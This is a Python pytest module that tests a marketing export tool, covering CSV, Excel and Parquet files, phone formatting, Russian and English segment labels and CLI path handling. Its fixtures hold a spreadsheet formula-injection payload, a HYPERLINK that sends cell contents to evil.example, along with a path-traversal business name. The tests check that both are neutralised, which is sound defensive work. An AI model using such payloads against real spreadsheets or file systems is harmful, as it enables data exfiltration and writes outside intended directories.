"""Exports a marketer can use: opened the way a marketer's tools open them.

A small warehouse holds the marts of the `marketer_exports` exposure, created from their
dbt contracts (the seed's rows from the seed file itself), plus ml.revisit_scores. Three
businesses: two Russian ones with the same name (their folders must not collide) and a
German one whose name tries to climb out of the output directory. Customers include a
CRM name that is a spreadsheet formula.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import warehouse
from ml.contract import ensure_scores_table
from revisit.settings import PROJECT_ROOT, Settings
from tests.conftest import run_cli
from warehouse import contracts
from warehouse.exports import (
    ExportError,
    ExportFormat,
    Lang,
    export_segments,
    folder_names,
    neutralise,
    safe_name,
)

SEED = pd.read_csv(PROJECT_ROOT / "dbt_project" / "seeds" / "rfm_segments.csv")
RU = SEED.set_index("segment")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Скидка")'
LAVANDA = "Салон «Лаванда»"

BUSINESSES = [
    ("b1", LAVANDA, "salon", "RU", "Москва", "Europe/Moscow", "RUB"),
    ("b2", "../../Barber: Shop", "barbershop", "DE", "Berlin", "Europe/Berlin", "EUR"),
    ("b3", LAVANDA, "salon", "KZ", "Алматы", "Asia/Almaty", "KZT"),
]
# (business, customer, phone, name, segment, monetary)
CUSTOMERS = [
    ("b1", "c1", "+79161234567", "Анна Петрова", "champions", "12500.00"),
    ("b1", "c2", "+79031112233", FORMULA, "at_risk", "8300.50"),
    ("b1", "c3", "+79264445566", "-2+3", "at_risk", "700.00"),
    ("b1", "c4", "+79857778899", "Олег", "lost", "150.00"),
    ("b2", "c5", "+4915112345678", "Jonas Weber", "at_risk", "90.00"),
    ("b2", "c6", "+4917612345678", "@Lena", "new", "45.00"),
    ("b3", "c7", "+77011234567", "Айгуль", "cant_lose_them", "30000.00"),
]


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Settings]:
    data_dir = tmp_path_factory.mktemp("exports") / "data"
    saved = {k: os.environ.pop(k) for k in list(os.environ) if k.startswith("REVISIT_")}
    os.environ["REVISIT_DATA_DIR"] = str(data_dir)
    try:
        settings = Settings()
        with warehouse.connect(settings.warehouse_dsn) as client:
            _fill(client)
        yield settings
    finally:
        os.environ.pop("REVISIT_DATA_DIR", None)
        os.environ.update(saved)


def _fill(client: warehouse.Client) -> None:
    contracts.create_tables(client, contracts.exposure_tables("marketer_exports"))
    ensure_scores_table(client)
    client.insert(
        "marts.dim_businesses",
        [list(b) for b in BUSINESSES],
        column_names=["business_id", "name", "kind", "country", "city", "timezone", "currency"],
    )
    client.insert(
        "marts.rfm_segments",
        SEED.values.tolist(),
        column_names=list(SEED.columns),
    )
    currency = {b[0]: b[6] for b in BUSINESSES}
    client.insert(
        "marts.dim_customers",
        [[b, c, phone, name, currency[b], True] for b, c, phone, name, _, _ in CUSTOMERS],
        column_names=[
            "business_id",
            "customer_id",
            "phone_e164",
            "full_name",
            "currency",
            "contactable",
        ],
    )
    last = datetime(2026, 3, 1, tzinfo=UTC)
    client.insert(
        "marts.customer_rfm",
        [
            [b, c, date(2026, 3, 31), last, 30, 3, Decimal(m), 1, 1, 1, "111", segment]
            for b, c, _, _, segment, m in CUSTOMERS
        ],
        column_names=[name for name, _ in contracts.columns("marts.customer_rfm")],
    )
    client.insert(
        "ml.revisit_scores",
        [[b, c, last, "v1", 60, 0.4567, 5, []] for b, c, *_ in CUSTOMERS],
        column_names=[
            "business_id",
            "customer_id",
            "scored_at",
            "model_version",
            "horizon_days",
            "p_revisit",
            "decile",
            "reason_codes",
        ],
    )


def _export(settings: Settings, out: Path, **options: object) -> list:
    with warehouse.connect(settings.warehouse_dsn) as client:
        return export_segments(client, out, **options)  # type: ignore[arg-type]


def test_csv_opens_in_pandas_with_text_phones_and_russian_labels(
    settings: Settings, tmp_path: Path
) -> None:
    exported = {e.business_id: e for e in _export(settings, tmp_path)}
    assert {e.folder.name for e in exported.values()} == {
        f"{LAVANDA} (b1)",
        f"{LAVANDA} (b3)",
        "_.._Barber_ Shop",
    }
    assert all(e.folder.parent == tmp_path for e in exported.values())
    assert exported["b1"].lang is Lang.ru and exported["b2"].lang is Lang.en

    folder = exported["b1"].folder
    members = pd.read_csv(folder / "members.csv")  # pandas' defaults, as a marketer would
    assert list(members.columns[:4]) == ["Телефон", "Имя", "Сегмент", "Рекомендуемое действие"]
    assert members["Телефон"].map(type).eq(str).all()
    assert members["Телефон"].str.startswith("+7").all()
    assert "+7 916 123-45-67" in set(members["Телефон"])
    row = members.set_index("Ключ сегмента").loc["champions"]
    assert row["Сегмент"] == "Чемпионы" == RU.loc["champions", "segment_label_ru"]
    assert row["Рекомендуемое действие"] == RU.loc["champions", "recommended_action_ru"]
    assert row["Можно писать"] == "да"
    assert row["Вероятность визита, %"] == pytest.approx(45.7)
    assert set(members["Сегмент"]) == {"Чемпионы", "Под угрозой ухода", "Потерянные"}

    # Formula injection: the CRM's names are shown, never evaluated.
    names = set(members["Имя"])
    assert "'" + FORMULA in names and "'-2+3" in names and FORMULA not in names

    sizes = pd.read_csv(folder / "segment_sizes.csv")
    assert list(sizes["Сегмент"]) == ["Чемпионы", "Под угрозой ухода", "Потерянные"]
    assert sizes["Клиентов"].sum() == len(members) == 4
    assert sizes["Доля, %"].tolist() == [25.0, 50.0, 25.0]

    english = pd.read_csv(exported["b2"].folder / "members.csv")
    assert english["Phone"].str.startswith("+49").all()
    assert set(english["Name"]) == {"Jonas Weber", "'@Lena"}
    assert set(english["Segment"]) == {"At risk", "New"}


def test_xlsx_has_widths_frozen_header_filters_formats_and_text_phones(
    settings: Settings, tmp_path: Path
) -> None:
    (exported,) = _export(settings, tmp_path, business_id="b1", fmt=ExportFormat.xlsx)
    path = exported.folder / "segments.xlsx"
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Сегменты", "Клиенты"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        last = sheet.cell(1, sheet.max_column).column_letter
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    sizes = book["Сегменты"]
    header = [c.value for c in sizes[1]]
    share = header.index("Доля") + 1
    assert sizes.cell(2, share).number_format == "0.0%"
    assert sizes.cell(2, share).value == pytest.approx(0.25)

    members = book["Клиенты"]
    header = [c.value for c in members[1]]
    phone, name = header.index("Телефон") + 1, header.index("Имя") + 1
    action = header.index("Рекомендуемое действие") + 1
    phones = [members.cell(r, phone) for r in range(2, members.max_row + 1)]
    assert all(c.data_type == "s" and c.number_format == "@" for c in phones)
    assert all(str(c.value).startswith("+7") for c in phones)
    assert members.cell(2, header.index("Вероятность визита") + 1).number_format == "0.0%"
    assert members.cell(2, header.index("Потрачено") + 1).number_format == "#,##0.00"
    names = {members.cell(r, name).value for r in range(2, members.max_row + 1)}
    assert "'" + FORMULA in names
    width = members.column_dimensions[members.cell(1, action).column_letter].width
    assert width >= 40  # fitted to the longest action, not Excel's default 8.43
    assert members.column_dimensions["A"].width >= len("+7 916 123-45-67")

    frame = pd.read_excel(path, sheet_name="Клиенты")
    assert frame["Телефон"].str.startswith("+7").all()
    assert "Под угрозой ухода" in set(frame["Сегмент"])


def test_segment_filter_takes_a_key_or_a_label_in_either_language(
    settings: Settings, tmp_path: Path
) -> None:
    for i, wanted in enumerate(["at_risk", "At risk", "  под угрозой  УХОДА ", "AT_RISK"]):
        exported = _export(settings, tmp_path / str(i), segments=[wanted])
        customers = {e.business_id: e.customers for e in exported}
        assert customers == {"b1": 2, "b2": 1, "b3": 0}, wanted
    (b1,) = _export(settings, tmp_path / "two", business_id="b1", segments=["Lost", "Чемпионы"])
    sizes = pd.read_csv(b1.folder / "segment_sizes.csv")
    assert sizes["Сегмент"].tolist() == ["Чемпионы", "Потерянные"]
    assert sizes["Доля, %"].tolist() == [25.0, 25.0]  # share of all the business's customers
    # A business without customers in the segment still gets its files, headers only.
    (b3,) = _export(settings, tmp_path / "none", business_id="b3", segments=["lost"])
    assert pd.read_csv(b3.folder / "members.csv").empty
    with pytest.raises(ExportError, match=r"unknown segment 'sleepy'.*at_risk \(At risk"):
        _export(settings, tmp_path / "bad", segments=["sleepy"])


def test_lang_overrides_the_country_default(settings: Settings, tmp_path: Path) -> None:
    (b1,) = _export(settings, tmp_path, business_id="b1", lang=Lang.en, fmt=ExportFormat.parquet)
    members = pd.read_parquet(b1.folder / "members.parquet")
    assert "phone" in members.columns  # Parquet keeps the keys as column names
    assert set(members.segment_label) == {"Champions", "At risk", "Lost"}
    assert members.phone.str.fullmatch(r"\+7\d{10}").all()  # E.164 for data tools


def test_business_must_be_known_and_nothing_leaves_the_output_dir(
    settings: Settings, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    result = run_cli(["export", "segments", "--business", "../x", "--out", str(out)], settings)
    assert result.returncode == 2
    assert "unknown business '../x'" in result.stderr and "b1" in result.stderr
    assert not out.exists() and not (tmp_path / "x").exists()

    result = run_cli(
        ["export", "segments", "--segment", "At risk", "--lang", "en", "--format", "xlsx",
         "--out", str(out)],
        settings,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*.xlsx"))
    assert written == [
        "out/_.._Barber_ Shop/segments.xlsx",
        f"out/{LAVANDA} (b1)/segments.xlsx",
        f"out/{LAVANDA} (b3)/segments.xlsx",
    ]
    assert "Салон «Лаванда» (b1, en): 2 customers" in result.stdout


def test_safe_names_and_neutralised_cells() -> None:
    assert safe_name("..") == "business" and safe_name("/") == "business"
    assert safe_name("a/b\\c\x00d\n") == "a_b_c d"
    assert safe_name("CON") == "CON_" and safe_name(" Кофейня «Зерно». ") == "Кофейня «Зерно»"
    assert len(safe_name("я" * 300)) == 80
    assert folder_names([("x1", "Shop"), ("x2", "shop"), ("x3", "")]) == {
        "x1": "Shop (x1)",
        "x2": "shop (x2)",
        "x3": "x3",
    }
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("Анна") == "Анна" and neutralise(5) == 5


def test_zero_row_query_prints_the_csv_header_and_an_empty_json_list(
    settings: Settings,
) -> None:
    sql = "SELECT business_id, name FROM marts.dim_businesses WHERE country = 'FR'"
    result = run_cli(["query", sql, "--format", "csv"], settings)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "business_id,name\n"
    result = run_cli(["query", sql, "--format", "json"], settings)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == []
